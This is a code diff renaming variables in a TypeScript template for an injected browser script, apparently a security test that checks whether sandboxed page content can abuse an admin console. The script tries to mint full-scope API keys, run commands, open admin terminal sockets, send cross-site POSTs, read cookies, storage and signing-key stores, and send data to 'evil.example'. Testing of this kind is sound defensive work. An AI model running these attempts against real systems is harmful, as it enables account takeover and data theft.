@@ -6,7 +6,7 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
 (() => {
   const api = '/api/v1/admin';
   const token = () => JSON.parse(document.querySelector('meta[name="page"]').content).sandbox.token;
-  const told = async answer => {
+  const readText = async answer => {
     const text = await answer.text();
     if (!answer.ok) throw new Error('answered ' + answer.status);
     return answer.status + ' ' + text.slice(0, 200);
@@ -14,8 +14,8 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
   const send = (method, path, body, more = {}) =>
     fetch(path, { method, credentials: 'include', body: body && JSON.stringify(body), ...more, headers: {
       ...(body && { 'content-type': 'application/json' }), ...more.headers,
-    } }).then(told);
-  const acts = {
+    } }).then(readText);
+  const actions = {
     key: ['POST', api + '/api-keys', { name: 'theirs', scopes: ['full'], expiresAt: null, nodes: null }],
     exec: ['POST', api + '/exec/tasks', { command: 'id', nodes: ['${node}'] }],
     backup: ['POST', api + '/backup', { passphrase: 'their own passphrase 1' }],
@@ -27,7 +27,7 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
     hidden: ['GET', '/api/v1/nodes/${hidden}'],
     log: ['GET', api + '/audit/export?format=json'],
   };
-  const opened = path => new Promise((resolve, reject) => {
+  const openWindow = path => new Promise((resolve, reject) => {
     const other = window.open(path);
     if (!other) return reject(new Error('no window'));
     let rounds = 0;
@@ -46,8 +46,8 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
       }
     }, 100);
   });
-  const seen = promise => Promise.race([promise, new Promise((_, no) => setTimeout(no, 3000, new Error('no answer')))]);
-  const framed = path => seen(new Promise((resolve, reject) => {
+  const withTimeout = promise => Promise.race([promise, new Promise((_, no) => setTimeout(no, 3000, new Error('no answer')))]);
+  const loadFrame = path => withTimeout(new Promise((resolve, reject) => {
     const frame = document.createElement('iframe');
     frame.onload = () => {
       try {
@@ -59,25 +59,25 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
     frame.src = path;
     document.body.append(frame);
   }));
-  const socket = (path, protocols) => seen(new Promise((resolve, reject) => {
+  const socket = (path, protocols) => withTimeout(new Promise((resolve, reject) => {
     const socket = new WebSocket(location.origin.replace('http', 'ws') + path, protocols);
     socket.onopen = () => resolve('open');
     socket.onerror = () => reject(new Error('refused'));
   }));
-  const tries = {
-    ...Object.fromEntries(Object.entries(acts).map(([name, act]) => [name, () => send(...act)])),
-    ...Object.fromEntries(Object.entries(acts).map(([name, [method, path, body]]) => [
+  const attempts = {
+    ...Object.fromEntries(Object.entries(actions).map(([name, request]) => [name, () => send(...request)])),
+    ...Object.fromEntries(Object.entries(actions).map(([name, [method, path, body]]) => [
       name + ' with the token of the page',
       () => send(method, path, body, { credentials: 'omit', headers: { authorization: 'Bearer ' + token() } }),
     ])),
-    ...Object.fromEntries(Object.entries(acts).filter(([, [method]]) => method === 'POST').map(([name, [, path, body]]) => [
+    ...Object.fromEntries(Object.entries(actions).filter(([, [method]]) => method === 'POST').map(([name, [, path, body]]) => [
       name + ' without asking before',
       // The response is unreadable; the test checks its effect afterwards.
       () => fetch(path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(body) })
         .then(({ type }) => { throw new Error(type); }),
     ])),
     'the list with the cookie': async () => {
-      const text = await fetch('/api/v1/nodes', { credentials: 'include' }).then(told);
+      const text = await fetch('/api/v1/nodes', { credentials: 'include' }).then(readText);
       return text;
     },
     'the hidden node by its name': async () => {
@@ -85,19 +85,19 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
       if (!text.includes('hidden-name')) throw new Error('not in it');
       return text;
     },
-    'a window on /admin': () => opened('/admin'),
-    'a window on /login': () => opened('/login'),
-    'a window on /Admin': () => opened('/Admin'),
-    'a frame on /admin': () => framed('/admin'),
-    'a frame on /login': () => framed('/login'),
-    'the page of /admin': () => fetch('/admin', { credentials: 'include' }).then(told),
+    'a window on /admin': () => openWindow('/admin'),
+    'a window on /login': () => openWindow('/login'),
+    'a window on /Admin': () => openWindow('/Admin'),
+    'a frame on /admin': () => loadFrame('/admin'),
+    'a frame on /login': () => loadFrame('/login'),
+    'the page of /admin': () => fetch('/admin', { credentials: 'include' }).then(readText),
     'a terminal': () => socket('/api/v1/admin/terminal/socket?node=${node}', []),
     'a terminal with the token of the page': () => socket('/api/v1/admin/terminal/socket?node=${node}', ['vitrine-viewer', token()]),
     'the live socket with the cookie': () => socket('/api/v1/live', []),
     cookies: async () => document.cookie || 'an empty one',
     storage: async () => localStorage.length + ' entries',
     'storage of the tab': async () => sessionStorage.length + ' entries',
-    'the signing key': () => seen(new Promise((resolve, reject) => {
+    'the signing key': () => withTimeout(new Promise((resolve, reject) => {
       const opening = indexedDB.open('vitrine-control', 1);
       opening.onsuccess = () => resolve([...opening.result.objectStoreNames].join());
       opening.onerror = () => reject(opening.error);
@@ -105,23 +105,23 @@ export const theft = (attacker: string, { node, hidden }: { readonly node: strin
     'a service worker': () => navigator.serviceWorker.register('/sw.js').then(({ scope }) => scope),
     'a channel to other pages': async () => {
       const channel = new BroadcastChannel('vitrine-test');
-      return seen(new Promise(resolve => { channel.onmessage = ({ data }) => resolve(data); channel.postMessage('hello'); }));
+      return withTimeout(new Promise(resolve => { channel.onmessage = ({ data }) => resolve(data); channel.postMessage('hello'); }));
     },
     'another host': () => fetch('https://evil.example/?stolen', { mode: 'no-cors' }).then(({ type }) => type),
-    'another host by a picture': () => seen(new Promise((resolve, reject) => {
+    'another host by a picture': () => withTimeout(new Promise((resolve, reject) => {
       Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('blocked')), src: 'https://evil.example/x.png' });
     })),
   };
   globalThis['${attacker}'] = async () => {
-    const got = {};
-    for (const [name, attempt] of Object.entries(tries)) {
+    const obtained = {};
+    for (const [name, attempt] of Object.entries(attempts)) {
       try {
-        got[name] = String(await attempt());
+        obtained[name] = String(await attempt());
       } catch {
         // Nothing.
       }
     }
-    return got;
+    return obtained;
   };
 })();
 `;
